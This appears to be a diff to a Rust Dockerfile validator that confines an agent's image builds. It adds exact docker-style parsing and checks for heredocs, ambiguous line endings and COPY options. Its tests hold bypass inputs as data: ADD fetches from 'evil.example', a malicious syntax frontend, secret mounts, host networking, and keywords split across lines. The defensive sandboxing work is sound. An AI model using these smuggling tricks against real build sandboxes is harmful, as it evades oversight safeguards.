@@ -4,8 +4,15 @@
 //! that — parser directives (a `# syntax=` frontend is code the builder
 //! fetches and runs), `ADD` (fetches URLs, unpacks archives), `RUN` flags
 //! (`--mount`, `--network`, `--security`), `COPY` from the context (there is
-//! none), `ONBUILD` (instructions hidden for later) — is refused, each with
-//! a reason the agent can act on.
+//! none), `ONBUILD` (instructions hidden for later), heredocs (lines the
+//! builder reads as a file, not as instructions) — is refused, each with a
+//! reason the agent can act on. Which images it may read is `images`.
+//!
+//! Instructions are cut exactly where docker cuts them (`parse`), so
+//! nothing the builder runs escapes the check.
+
+pub mod images;
+mod parse;
 
 /// Instructions allowed, besides `COPY --from=…`.
 const ALLOWED: &[&str] = &[
@@ -27,22 +34,26 @@ const ALLOWED: &[&str] = &[
 
 /// Checks a Dockerfile; the error names the line and says what to do.
 pub fn check(dockerfile: &str) -> Result<(), String> {
-    for (number, line) in dockerfile.lines().enumerate() {
+    for (number, line) in parse::lines(dockerfile).into_iter().enumerate() {
         if is_directive(line) {
             return Err(format!(
                 "line {}: parser directives (# syntax=, # escape=, # check=) are not allowed; remove it",
                 number + 1
             ));
         }
+        if parse::ends_ambiguously(line) {
+            return Err(format!(
+                "line {}: it ends in \\\\, which docker's builders read differently (older ones continue the line, newer ones do not); end it otherwise",
+                number + 1
+            ));
+        }
     }
     let mut saw_from = false;
-    for (number, instruction) in instructions(dockerfile) {
-        let at = |problem: &str| format!("line {number}: {problem}");
-        let mut words = instruction.split_whitespace();
-        let Some(keyword) = words.next().map(str::to_ascii_uppercase) else {
-            continue;
-        };
-        let first = words.next().unwrap_or("");
+    for instruction in parse::instructions(dockerfile) {
+        let at = |problem: &str| format!("line {}: {problem}", instruction.line);
+        let keyword = instruction.keyword();
+        let (_, args) = instruction.args();
+        let first = args.split(parse::is_blank).next().unwrap_or("");
         match keyword.as_str() {
             "ADD" => {
                 return Err(at(
@@ -50,11 +61,12 @@ pub fn check(dockerfile: &str) -> Result<(), String> {
                 ));
             }
             "ONBUILD" => return Err(at("ONBUILD is not allowed; write the instructions out")),
-            "COPY" if !first.to_ascii_lowercase().starts_with("--from=") => {
+            "RUN" | "COPY" if args.contains("<<") => {
                 return Err(at(
-                    "COPY needs --from=IMAGE_OR_STAGE: the image is built with an empty context",
+                    "heredocs (<<) are not allowed; write files with RUN printf '...' > FILE",
                 ));
             }
+            "COPY" => copy_options(args).map_err(at)?,
             "RUN" if first.starts_with("--") => {
                 return Err(at(&format!(
                     "RUN options ({}) are not allowed: the build has no network, mounts or extra privileges",
@@ -62,7 +74,6 @@ pub fn check(dockerfile: &str) -> Result<(), String> {
                 )));
             }
             "FROM" => saw_from = true,
-            "COPY" => {}
             k if ALLOWED.contains(&k) => {}
             k => return Err(at(&format!("unknown instruction {k}"))),
         }
@@ -74,6 +85,27 @@ pub fn check(dockerfile: &str) -> Result<(), String> {
         Ok(())
     } else {
         Err("has no FROM line".into())
+    }
+}
+
+/// A `COPY`'s options (the words before its sources): written plainly (a
+/// quote or an escape would make docker cut them elsewhere), one of them
+/// `--from=`.
+fn copy_options(args: &str) -> Result<(), &'static str> {
+    let mut from = false;
+    for word in args.split(parse::is_blank).filter(|w| !w.is_empty()) {
+        if !word.starts_with("--") {
+            break;
+        }
+        if word.contains(['\'', '"', '\\']) {
+            return Err("COPY options take no quotes or escapes; write them plainly");
+        }
+        from |= word.starts_with("--from=");
+    }
+    if from {
+        Ok(())
+    } else {
+        Err("COPY needs --from=IMAGE_OR_STAGE: the image is built with an empty context")
     }
 }
 
@@ -90,31 +122,6 @@ fn is_directive(line: &str) -> bool {
     !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
 }
 
-/// The instructions, continuation lines joined and comments dropped, each
-/// with the number of the line it starts on.
-fn instructions(dockerfile: &str) -> Vec<(usize, String)> {
-    let mut out = Vec::new();
-    let mut current: Option<(usize, String)> = None;
-    for (i, line) in dockerfile.lines().enumerate() {
-        let trimmed = line.trim();
-        if trimmed.starts_with('#') || (trimmed.is_empty() && current.is_none()) {
-            continue;
-        }
-        let (body, continues) = match trimmed.strip_suffix('\\') {
-            Some(body) => (body, true),
-            None => (trimmed, false),
-        };
-        let entry = current.get_or_insert_with(|| (i + 1, String::new()));
-        entry.1.push(' ');
-        entry.1.push_str(body);
-        if !continues {
-            out.extend(current.take());
-        }
-    }
-    out.extend(current);
-    out
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -125,6 +132,7 @@ mod tests {
             "FROM debian:bookworm-slim\nRUN apt-get install -y gcc\n",
             "ARG BASE=debian:bookworm-slim\nFROM $BASE\nUSER agent\n",
             "FROM node:20 AS tools\nFROM debian:bookworm-slim\nCOPY --from=tools /usr/local/bin/node /usr/local/bin/\n",
+            "FROM a AS t\nFROM debian\nCOPY --chown=1000 --from=t /a /b\n",
             "from debian\n# a comment = with an equals sign in prose\nrun true \\\n  && echo done\n",
             "# A comment\nFROM debian\nENV A=1 \\\n    B=2\nWORKDIR /workspace\n",
         ];
@@ -138,6 +146,10 @@ mod tests {
         let cases = [
             (
                 "# syntax=docker/dockerfile:1\nFROM debian\n",
+                "line 1: parser directives",
+            ),
+            (
+                "\u{feff}# syntax=evil/frontend\nFROM debian\n",
                 "line 1: parser directives",
             ),
             ("#escape=`\nFROM debian\n", "line 1: parser directives"),
@@ -157,6 +169,11 @@ mod tests {
                 "FROM debian\nADD local.tar /\n",
                 "line 2: ADD is not allowed",
             ),
+            // A word cut by a continuation is joined as docker joins it.
+            (
+                "FROM debian\nAD\\\nD https://evil.example/x /x\n",
+                "line 2: ADD is not allowed",
+            ),
             (
                 "FROM debian\nRUN --mount=type=secret,id=x cat /run/secrets/x\n",
                 "line 2: RUN options (--mount)",
@@ -173,6 +190,22 @@ mod tests {
                 "FROM debian\nRUN true && \\\n  echo\nRUN \\\n  --mount=type=cache,target=/x true\n",
                 "line 4: RUN options (--mount)",
             ),
+            // An escaped backslash at the end: today's builder reads the
+            // next line as an instruction of its own, an older one as more
+            // of this one. Neither reading is taken.
+            (
+                "FROM debian\nRUN echo \\\\\nADD https://evil.example/x /x\n",
+                "line 2: it ends in \\\\, which docker's builders read differently",
+            ),
+            (
+                "FROM debian\nRUN echo \\\\ \t\nUSER agent\n",
+                "line 2: it ends in",
+            ),
+            // A blank line inside a continuation does not end it.
+            (
+                "FROM debian\nRUN \\\n\n--network=host true\n",
+                "line 2: RUN options (--network)",
+            ),
             (
                 "FROM debian\nCOPY . /workspace\n",
                 "line 2: COPY needs --from",
@@ -182,8 +215,20 @@ mod tests {
                 "line 2: COPY needs --from",
             ),
             (
+                "FROM debian\nCOPY x --from=y /z\n",
+                "line 2: COPY needs --from",
+            ),
+            (
                 "FROM debian\nONBUILD ADD . /x\n",
                 "line 2: ONBUILD is not allowed",
+            ),
+            (
+                "FROM debian\nRUN <<EOF\nADD https://evil.example/x /x\nEOF\n",
+                "line 2: heredocs",
+            ),
+            (
+                "FROM debian\nCOPY --from=debian <<EOF /x\nhi\nEOF\n",
+                "line 2: heredocs",
             ),
             (
                 "FROM debian\nFETCH x\n",
